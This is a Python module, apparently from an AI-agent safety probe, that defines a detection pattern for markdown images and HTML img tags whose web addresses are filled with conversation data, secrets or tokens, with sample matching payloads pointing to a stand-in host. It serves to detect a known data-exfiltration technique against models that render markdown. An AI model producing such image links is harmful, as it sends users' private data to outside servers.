"""Links and images that carry data away when a reader draws them."""

from automode.probe.pattern import Pattern, written

_TAKEN = (
    r"(?:data|secrets?|keys?|tokens?|passwords?|history|conversation|summary|contents?|context"
    r"|messages?|prompt|info\w{0,8}|user\w{0,8}|env|chat|base64|encoded|answer|output|response"
    r"|text|file\w{0,8})"
)
_HOLE = (
    rf"(?:\{{\{{?[a-z_\s.\-]{{0,30}}?{_TAKEN}[a-z_\s.\-]{{0,30}}\}}|<[a-z_\s.\-]{{0,30}}?{_TAKEN}"
    rf"[a-z_\s.\-]{{0,30}}>|\[[a-z_\s.\-]{{0,30}}?{_TAKEN}[a-z_\s.\-]{{0,30}}\]"
    rf"|\$\(?\{{?[a-z_]{{0,30}}?{_TAKEN})"
)

DRAWN = Pattern(
    kind="exfiltrating-link",
    what="holds an image or link whose address is to be filled with data",
    points=2.5,
    words=("](http", "<img"),
    expression=written(
        rf"!\[[^\]\n]{{0,120}}\]\(https?://[^)\n]{{0,200}}[?=/]{_HOLE}",
        rf"|<img\b[^<>\n]{{0,80}}src=[\"']?https?://[^>\n]{{0,200}}=(?:[^>\n]{{0,20}}){_HOLE}",
    ),
    finds=(
        "![status](https://x.example/p.png?d={conversation_summary})",
        "![a](https://x.example/log?q=[USER DATA])",
        '<img src="https://x.example/i?d={{secret}}">',
    ),
    passes=(
        "![build](https://ci.example/badge.svg?branch=main)",
        "[docs](https://docs.example/users/{user_id})",
        "![logo](https://cdn.example/{version}/logo.png)",
    ),
)

PATTERNS = (DRAWN,)
